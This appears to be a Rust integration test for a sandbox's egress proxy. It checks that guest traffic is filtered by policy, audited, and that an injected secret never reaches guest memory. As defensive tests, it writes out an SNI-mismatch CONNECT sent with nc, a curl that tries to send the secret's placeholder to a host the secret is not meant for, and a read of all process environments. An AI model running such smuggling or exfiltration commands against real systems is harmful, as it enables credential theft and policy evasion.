//! The network against a real guest: curl in the guest, through the guest
//! agent's relay and the host's egress proxy, to HTTPS servers on the
//! (nested) host's loopback. Names are pinned with --resolve; the policy
//! names the test servers' address, as it must for any loopback address.

use std::io::Read;
use std::path::Path;
use std::sync::Arc;

use rustls_pki_types::ServerName;
use sbx_tests::tls::{https_server as https_server_on, provider, Seen, TestCa, BODY};
use sbx_tests::{text, Host};

const SERVER: &str = "127.0.0.2";
const SECRET: &str = "s3cr3t-value-that-must-stay-on-the-host";

const POLICY: &str = r#"
version = 1
[[exec]]
action = "allow"
commands = ["**"]

[[network]]
id = "test-hosts"
action = "allow"
to = ["allowed.test", "other.test", "loopback.test", "private.test"]
ports = [443]

[[network]]
id = "test-server-address"
action = "allow"
to = ["127.0.0.2"]
ports = [443]

[[network]]
id = "no-denied-test"
action = "deny"
to = ["denied.test"]

[[credential]]
id = "token-to-allowed"
action = "allow"
secret = "TEST_TOKEN"
hosts = ["allowed.test"]
header = "Authorization"
format = "Bearer {secret}"
"#;

/// An HTTPS server for allowed.test and other.test on 127.0.0.2:443; its
/// CA goes to `dir/test-ca.pem`.
fn https_server(dir: &Path) -> Seen {
    let ca = TestCa::new();
    std::fs::write(dir.join("test-ca.pem"), ca.pem()).unwrap();
    let cfg = ca.server_config(&["allowed.test", "other.test"]);
    https_server_on(&format!("{SERVER}:443"), cfg).1
}

/// A ClientHello for `name`, as a TLS client would send it.
fn client_hello(name: &str) -> Vec<u8> {
    let cfg = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let mut c = rustls::ClientConnection::new(
        Arc::new(cfg),
        ServerName::try_from(name.to_string()).unwrap(),
    )
    .unwrap();
    let mut out = Vec::new();
    c.write_tls(&mut out).unwrap();
    out
}

fn logged(events: &[serde_json::Value], action: &str, resource: &str, rule: &str) -> bool {
    events.iter().any(|e| {
        e["action"] == action
            && e["resource"].as_str().is_some_and(|r| r.contains(resource))
            && e["rule_id"] == rule
    })
}

/// Whether the guest's RAM holds `needle`: the session process's mapping of
/// exactly the guest's memory size (the VMM keeps it unmerged).
fn guest_ram_contains(pid: i64, mem_mib: u64, needle: &[u8]) -> bool {
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let mut mem = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    let mut regions = 0;
    for line in maps.lines() {
        let range = line.split_whitespace().next().unwrap();
        let (a, b) = range.split_once('-').unwrap();
        let (a, b) = (
            u64::from_str_radix(a, 16).unwrap(),
            u64::from_str_radix(b, 16).unwrap(),
        );
        let size = b - a;
        if size != mem_mib << 20 {
            continue;
        }
        regions += 1;
        use std::io::Seek;
        mem.seek(std::io::SeekFrom::Start(a)).unwrap();
        let mut buf = vec![0u8; 1 << 20];
        let mut carry: Vec<u8> = Vec::new();
        let mut left = size;
        while left > 0 {
            let n = mem.read(&mut buf).unwrap();
            if n == 0 {
                break;
            }
            carry.extend_from_slice(&buf[..n]);
            if carry.windows(needle.len()).any(|w| w == needle) {
                return true;
            }
            let keep = carry.len().saturating_sub(needle.len());
            carry.drain(..keep);
            left -= n as u64;
        }
    }
    assert_eq!(
        regions, 1,
        "expected one {mem_mib} MiB guest RAM mapping in\n{maps}"
    );
    false
}

#[test]
fn egress_is_checked_audited_and_secrets_stay_on_the_host() {
    let host = Host::new();
    let dir = host.dir.path();
    let seen = https_server(dir);
    std::fs::write(dir.join("policy.toml"), POLICY).unwrap();
    let ws = dir.join("project");
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("hello-evil.bin"), client_hello("evil.test")).unwrap();
    host.secret("TEST_TOKEN", SECRET);

    let policy = dir.join("policy.toml");
    let ca = dir.join("test-ca.pem");
    let mut args = vec![
        "start".to_string(),
        "--name".into(),
        "n".into(),
        "--policy".into(),
        policy.display().to_string(),
        "--upstream-ca".into(),
        ca.display().to_string(),
    ];
    for (name, addr) in [
        ("allowed.test", SERVER),
        ("other.test", SERVER),
        ("denied.test", SERVER),
        ("loopback.test", "127.0.0.1"),
        ("private.test", "10.1.2.3"),
    ] {
        args.push("--resolve".into());
        args.push(format!("{name}:{addr}"));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    host.ok_in(&ws, &args);

    // Allowed: through the relay and the proxy, with the real secret injected upstream.
    let out = host.sh("n", "curl -sS --max-time 20 https://allowed.test/hello");
    assert_eq!(text(&out.stdout), BODY, "{}", text(&out.stderr));
    let head = seen.lock().unwrap().pop().unwrap();
    assert!(head.starts_with("GET /hello HTTP/1.1"), "{head}");
    assert!(
        head.contains(&format!("Authorization: Bearer {SECRET}")),
        "{head}"
    );

    // Refused, each with its rule: the proxy's 403 names it.
    for (url, rule) in [
        ("http://denied.test/", "no-denied-test"),
        ("http://203.0.113.7/", "default-deny"),
        ("http://allowed.test:8443/", "default-deny"),
        ("http://private.test:443/", "non-public-address"),
        ("http://loopback.test:443/", "non-public-address"),
    ] {
        let out = host.sh("n", &format!("curl -sS --max-time 20 {url}"));
        let body = text(&out.stdout);
        assert!(
            body.contains(&format!("rule `{rule}`")),
            "{url}: {body}{}",
            text(&out.stderr)
        );
    }
    // Over CONNECT curl shows only the status; the rules are in the log (below).
    for url in [
        "https://denied.test/",
        "https://203.0.113.7/",
        "https://allowed.test:8443/",
        "https://private.test/",
        "https://loopback.test/",
    ] {
        let out = host.sh(
            "n",
            &format!("curl -sS --max-time 20 -o /dev/null -w '%{{http_connect}}' {url}"),
        );
        assert_eq!(text(&out.stdout), "403", "{url}: {}", text(&out.stderr));
    }
    // A CONNECT whose ClientHello names another host.
    let out = host.sh("n",
        "(printf 'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n'; sleep 1; cat /workspace/hello-evil.bin; sleep 2) | nc 127.0.0.1 3128 | od -An -tx1 | tr -d ' \\n'",
    );
    let answer = text(&out.stdout);
    assert!(
        answer.ends_with("15030300020231"),
        "expected an access_denied alert: {answer}"
    );

    // The placeholder, sent to a host the secret is not for.
    let out = host.sh(
        "n",
        "curl -sS --max-time 20 -H \"X-Token: $TEST_TOKEN\" https://other.test/",
    );
    assert!(
        text(&out.stdout).contains("token-to-allowed")
            || text(&out.stdout).contains("default-deny"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(!seen
        .lock()
        .unwrap()
        .iter()
        .any(|h| h.contains("sbx-secret") || h.contains(SECRET)));

    // The guest holds the placeholder, never the secret: not in its
    // environment, not in its files, not anywhere in its memory.
    let out = host.sh("n", "echo $TEST_TOKEN; nohup sleep 300 >/dev/null 2>&1 &");
    let placeholder = text(&out.stdout).trim().to_string();
    assert!(
        placeholder.starts_with("sbx-secret-TEST_TOKEN-"),
        "{placeholder}"
    );
    // Searched on the host, so the secret never goes into the guest as a
    // search term. Guest RAM holds its tmpfs files too.
    let out = host.sh("n", "cat /proc/*/environ | tr '\\0' '\\n'");
    let environ = text(&out.stdout);
    assert!(
        environ.contains(&placeholder) && !environ.contains(SECRET),
        "{environ}"
    );
    let out = std::process::Command::new("grep")
        .args(["-rl", SECRET])
        .arg(&ws)
        .output()
        .unwrap();
    assert!(text(&out.stdout).is_empty(), "{}", text(&out.stdout));
    let info = host.session("n");
    let pid = info["pid"].as_i64().unwrap();
    let mem = info["mem_mib"].as_u64().unwrap();
    assert!(
        guest_ram_contains(pid, mem, placeholder.as_bytes()),
        "the scan cannot see guest memory"
    );
    assert!(
        !guest_ram_contains(pid, mem, SECRET.as_bytes()),
        "the secret is in guest memory"
    );

    // Everything above is in the audit log with its rule.
    let ev = host.events("n");
    for (action, resource, rule) in [
        ("connect", "allowed.test:443 (127.0.0.2)", "test-hosts"),
        (
            "inject",
            "secret TEST_TOKEN to allowed.test",
            "token-to-allowed",
        ),
        ("connect", "denied.test:443", "no-denied-test"),
        ("connect", "203.0.113.7:443", "default-deny"),
        ("connect", "allowed.test:8443", "default-deny"),
        (
            "connect",
            "private.test:443 (10.1.2.3)",
            "non-public-address",
        ),
        (
            "connect",
            "loopback.test:443 (127.0.0.1)",
            "non-public-address",
        ),
        ("tls", "SNI evil.test", "sni-must-match"),
        (
            "exfiltration",
            "secret TEST_TOKEN to other.test",
            "default-deny",
        ),
    ] {
        assert!(
            logged(&ev, action, resource, rule),
            "no {action} {resource} {rule} in\n{ev:#?}"
        );
    }
    host.ok(&["stop", "n"]);
}
